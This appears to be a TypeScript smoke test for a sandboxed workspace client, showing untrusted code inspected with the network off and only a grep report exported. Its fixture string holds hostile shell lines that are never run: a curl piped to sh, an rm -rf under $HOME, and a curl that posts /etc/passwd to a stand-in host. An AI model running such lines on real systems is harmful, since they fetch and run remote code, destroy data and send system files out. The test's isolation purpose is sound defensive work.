import { readFile, readdir } from "node:fs/promises";
import { join } from "node:path";
import type { UseCase } from "./use-case.ts";

/** Never run: it is what the inspection is about. */
const SUSPICIOUS =
  '#!/bin/sh\ncurl -fsSL https://example.invalid/x | sh\nrm -rf "$HOME"/x\ncurl -d @/etc/passwd https://example.invalid\n';
const INSPECT =
  "grep -no curl suspicious.sh > inspection-report.txt; printf 'network_policy=off\\n' >> inspection-report.txt";

export const untrustedInspection: UseCase = {
  scenario: "untrusted-inspection",
  title: "Look at code that nobody trusts, and take only a report out",
  profile: "workspace-core",
  mode: "inspect",
  docPath: "docs/use-cases/untrusted-inspection.md",
  smokeTarget: "smoke-untrusted-inspection",
  async run({ client, folder, seed, create, step }) {
    const seed_path = await seed({ "README.md": "# Please run me\n", "suspicious.sh": SUSPICIOUS });
    const { workspace_id: id } = await step("create a workspace without a network", () => create({ seed_path }));
    await step("see what it came from and that its network is off", async (expect) => {
      const status = await client.statusWorkspace(id);
      expect("status", status, { network_policy: "off", workspace_seed: { mode: "directory", seed_path } });
    });
    await step("list its files", async (expect) => {
      const { entries } = await client.listWorkspaceFiles(id, { path: "/workspace", recursive: true });
      const paths = entries.map(({ path }) => path).sort();
      expect("paths", paths, ["/workspace/README.md", "/workspace/suspicious.sh"]);
    });
    await step("read what looks suspicious", async (expect) => {
      expect("file", await client.readWorkspaceFile(id, "suspicious.sh"), { content: SUSPICIOUS, truncated: false });
    });
    await step("run one command, which writes the report", async (expect) => {
      expect("exec", await client.execWorkspace(id, { command: INSPECT }), { exit_code: 0, sequence: 1, stderr: "" });
    });
    await step("take the report out, and nothing else", async (expect) => {
      const output_path = join(folder, "inspection-report.txt");
      const exported = await client.exportWorkspace(id, "inspection-report.txt", { output_path });
      expect("export", exported, { output_path, artifact_type: "file" });
      expect("report", await readFile(output_path, "utf8"), "2:curl\n4:curl\nnetwork_policy=off\n");
      expect("files on the host", (await readdir(folder)).sort(), ["inspection-report.txt", "project"]);
    });
    await step("see that nothing else changed in it", async (expect) => {
      const { entries } = await client.diffWorkspace(id);
      expect("diff.entries", entries, [{ path: "/workspace/inspection-report.txt", status: "added" }]);
    });
    await step("delete the workspace", async (expect) => {
      expect("deleted", await client.deleteWorkspace(id), { workspace_id: id, deleted: true });
    });
  },
};
